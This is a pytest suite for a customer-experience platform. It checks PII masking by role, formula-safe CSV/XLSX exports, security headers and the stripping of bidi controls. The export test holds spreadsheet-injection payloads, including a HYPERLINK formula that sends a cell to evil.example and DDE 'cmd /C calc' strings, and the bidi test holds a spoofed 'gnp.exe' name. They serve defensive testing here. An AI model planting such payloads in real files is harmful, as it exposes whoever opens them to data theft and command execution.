"""Personal data by role, route and field; exports that cannot run formulas; headers; bidi controls.

A customer whose email and phone reach every place a CX team looks (profile, identities, merge records,
event properties, feedback text, the timeline, the customer pages) is read with each role: roles without
pii:read never receive the raw email or phone, in any format, anywhere in the answer; roles with it do
(so the test can fail).
"""

from __future__ import annotations

import io
import logging
import re
from datetime import UTC, datetime

import orjson
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tajriba.accounts import service as accounts
from tajriba.customers.identity import IdentityPolicy
from tajriba.ingest.segment import parse_request
from tajriba.ingest.writer import WorkspaceRules, store
from tajriba.logs import RedactingFormatter
from tajriba.permissions import ROLES, allowed
from tajriba.text.service import redact
from tests.conftest import login, make_user, make_workspace

EMAIL = "Sara.Ahmadi@Example.com"
PHONE_LOCAL = "0501234567"
# every way the two may be written back: as typed, normalised, E.164, international with spaces
RAW = [EMAIL, EMAIL.lower(), PHONE_LOCAL, "+966501234567", "966501234567", "501234567"]


@pytest.fixture
def shop(app, db):  # type: ignore[no-untyped-def]
    ws = make_workspace(db, "pii")
    wh = app.state.warehouse
    body = {
        "batch": [
            {
                "type": "identify",
                "anonymousId": "anon-7",
                "userId": EMAIL,  # a user id that is an email (common in real feeds)
                "messageId": "p1",
                "timestamp": "2026-03-01T09:00:00+03:00",
                "traits": {"name": "سارا احمدی", "email": EMAIL, "phone": PHONE_LOCAL},
            },
            {
                "type": "track",
                "anonymousId": "anon-8",
                "event": "Support Form Sent",
                "messageId": "p2",
                "timestamp": "2026-03-01T10:00:00+03:00",
                "properties": {"contact": EMAIL, "callback": PHONE_LOCAL},
            },
            {  # another device of hers, signed in with the same user id (her email): a merge
                "type": "identify",
                "anonymousId": "anon-8",
                "userId": EMAIL,
                "messageId": "p3",
                "timestamp": "2026-03-01T10:05:00+03:00",
                "traits": {"email": EMAIL, "phone": PHONE_LOCAL},
            },
        ]
    }
    parsed, _ = parse_request(
        orjson.dumps(body), path_type=None, received_at=datetime(2026, 3, 2, tzinfo=UTC)
    )
    store(wh, workspace_id=ws.id, batch=parsed.table(), rules=WorkspaceRules(policy=IdentityPolicy()))
    customer = wh.sql("SELECT customer_id FROM customer_identities WHERE value = 'anon-7'")[0][0]
    wh.append(
        "feedback_texts",
        __import__("pyarrow").Table.from_pylist(
            [
                {
                    "workspace_id": ws.id,
                    "feedback_id": "f-1",
                    "customer_id": customer,
                    "source": "review",
                    "text": f"اتصلوا بي على {PHONE_LOCAL} أو {EMAIL} المندوب تأخر",
                    "created_at": datetime(2026, 3, 1, 12),
                }
            ]
        ),
    )
    keys = {
        role: accounts.create_key(db, workspace=ws, kind="api", name=role, role=role)[1]
        for role in ROLES
        if role != "owner"
    }
    db.commit()
    return {"ws": ws, "customer": customer, "keys": keys}


def _leaks(text: str) -> list[str]:
    return [raw for raw in RAW if raw in text]


@pytest.mark.parametrize("role", [r for r in ROLES if r != "owner"])
def test_api_answers_hide_email_and_phone_from_roles_without_pii_read(client, shop, role) -> None:  # type: ignore[no-untyped-def]
    headers = {"Authorization": f"Bearer {shop['keys'][role]}"}
    cid = shop["customer"]
    paths = [
        f"/api/v1/customers/{cid}",
        f"/api/v1/customers/{cid}/timeline",
        "/api/v1/customers?search=sara",
        f"/api/v1/customers?search={PHONE_LOCAL}",
    ]
    seen = ""
    for path in paths:
        r = client.get(path, headers=headers)
        if not allowed(role, "customers:read"):
            assert r.status_code == 403, (path, r.status_code)
            continue
        assert r.status_code == 200, (path, r.text)
        seen += r.text
    if not allowed(role, "customers:read"):
        return
    if allowed(role, "pii:read"):
        assert EMAIL.lower() in seen and "+966501234567" in seen
    else:
        assert _leaks(seen) == [], f"{role} received raw personal data"
        assert "[EMAIL]" in seen or "•••" in seen


@pytest.mark.parametrize("role", ["analyst", "agent"])
def test_customer_pages_hide_email_and_phone_from_roles_without_pii_read(app, db, shop, role) -> None:  # type: ignore[no-untyped-def]
    user = make_user(db, workspace=shop["ws"], role=role)
    with TestClient(app, follow_redirects=False) as c:
        login(c, user)
        html = c.get(f"/w/pii/customers/{shop['customer']}").text + c.get("/w/pii/customers?q=sara").text
    assert "سارا احمدی" in html  # the page is the customer's page
    if allowed(role, "pii:read"):
        assert EMAIL.lower() in html
    else:
        assert _leaks(html) == []


def test_merge_records_name_identifiers_masked_for_roles_without_pii_read() -> None:
    from tajriba.customers.service import masked_profile

    profile = {
        "customer_id": "c1",
        "email": EMAIL,
        "phone": "+966501234567",
        "traits": {"email": EMAIL, "plan": "gold"},
        "identities": [{"kind": "user_id", "value": EMAIL}, {"kind": "anonymous_id", "value": "anon-7"}],
        "merges": [
            {"merge_id": "m1", "via": [["email", EMAIL], ["phone", "+966501234567"], ["user_id", EMAIL]]}
        ],
    }
    shown = orjson.dumps(masked_profile(profile)).decode()
    assert _leaks(shown) == []
    assert "anon-7" in shown and "gold" in shown and "S•••@Example.com" in shown


def test_exports_open_formulas_as_text(app, client, db) -> None:  # type: ignore[no-untyped-def]
    ws = make_workspace(db, "xl")
    key = accounts.create_key(db, workspace=ws, kind="api", name="a", role="admin")[1]
    user = make_user(db, workspace=ws, role="admin")
    db.commit()
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط هنا")'
    headers = {"Authorization": f"Bearer {key}"}
    r = client.post(
        "/api/v1/journeys",
        headers=headers,
        json={"name": evil, "stages": [{"key": "buy", "name": "+cmd|' /C calc'!A0"}]},
    )
    assert r.status_code == 201, r.text
    journey = r.json()
    stage_id = journey["stages"][0]["id"]
    r = client.post(
        f"/api/v1/touchpoints?journey_id={journey['id']}",
        headers=headers,
        json={"stage_id": stage_id, "key": "tp", "name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    )
    assert r.status_code == 201, r.text
    xlsx = client.get(f"/api/v1/journeys/{journey['id']}/export?format=xlsx", headers=headers)
    assert xlsx.status_code == 200, xlsx.text
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [
        c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
    ]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert risky, "the export should hold the typed values"
    assert all(c.data_type == "s" for c in risky), [(c.coordinate, c.data_type) for c in risky]
    # and they come back unchanged through the journey import
    again = client.post(
        "/api/v1/journeys/import",
        headers={
            **headers,
            "content-type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        },
        content=xlsx.content,
    )
    assert again.status_code == 201, again.text
    assert again.json()["name"] == evil
    # goals with a formula for a name, as CSV and XLSX from the dashboard
    r = client.post(
        "/api/v1/goals",
        headers=headers,
        json={
            "name": evil,
            "metric": "nps",
            "target": 40,
            "start_date": "2026-01-01",
            "due_date": "2026-12-31",
            "owner_id": user.id,
        },
    )
    assert r.status_code == 201, r.text
    with TestClient(app, follow_redirects=False) as c:
        login(c, user)
        csv_text = c.get("/w/xl/metrics/export?table=goals&format=csv").content.decode("utf-8-sig")
        goals_xlsx = c.get("/w/xl/metrics/export?table=goals&format=xlsx")
    assert "'" + evil.replace('"', '""') in csv_text
    assert not re.search(r'(^|,)"?=HYPERLINK', csv_text, re.MULTILINE)
    sheet = load_workbook(io.BytesIO(goals_xlsx.content)).active
    assert sheet is not None
    named = [c for row in sheet.iter_rows() for c in row if c.value == evil]
    assert named and all(c.data_type == "s" for c in named)


def test_headers_forbid_inline_script_and_framing_and_set_hsts_behind_tls(client) -> None:  # type: ignore[no-untyped-def]
    page = client.get("/login")
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in csp
    assert "<script>" not in page.text and " onclick=" not in page.text and " onchange=" not in page.text
    assert "strict-transport-security" not in page.headers
    https = TestClient(client.app, base_url="https://testserver").get("/login")
    assert "max-age=31536000" in https.headers["strict-transport-security"]
    survey_csp = client.get("/s/no-such-token").headers["content-security-policy"]
    assert "frame-ancestors *" in survey_csp  # respondent pages may be embedded in the customer's site
    # the builder's preview may be framed by our own pages only; every other staff page by nobody
    preview = client.get("/w/nowhere/surveys/1/preview")
    assert "frame-ancestors 'self'" in preview.headers["content-security-policy"]
    assert preview.headers["x-frame-options"] == "SAMEORIGIN"
    assert page.headers["x-frame-options"] == "DENY"


def test_bidi_override_characters_in_names_are_not_shown(app, client, db) -> None:  # type: ignore[no-untyped-def]
    ws = make_workspace(db, "bidi", name="Shop \u202egnp.exe\u2066 \u200fمتجر")
    user = make_user(db, workspace=ws, role="admin")
    login(client, user)
    html = client.get("/w/bidi/settings").text
    assert "\u202e" not in html and "\u2066" not in html
    assert "gnp.exe" in html and "\u200f" in html  # the text stays; the right-to-left mark Arabic needs stays


def test_log_lines_carry_no_email_or_phone() -> None:
    record = logging.LogRecord(
        "tajriba", logging.ERROR, __file__, 1, "lookup failed for %s / %s", (EMAIL, PHONE_LOCAL), None
    )
    line = RedactingFormatter("%(message)s", redact=redact).format(record)
    assert _leaks(line) == [] and "lookup failed" in line
